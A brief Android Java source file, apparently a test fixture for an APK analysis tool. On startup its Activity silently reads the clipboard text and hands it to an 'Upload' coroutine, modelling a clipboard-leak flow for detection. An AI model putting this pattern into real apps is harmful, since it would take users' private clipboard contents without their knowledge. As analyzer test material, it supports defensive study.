package org.apkvet.clip.through_coroutine;

import android.app.*;
import android.content.*;
import android.os.*;

public class Main extends Activity implements kotlinx.coroutines.CoroutineScope {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        kotlinx.coroutines.BuildersKt.launch$default(this, null, null, new Upload(copied(), null), 3, null);
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }
}
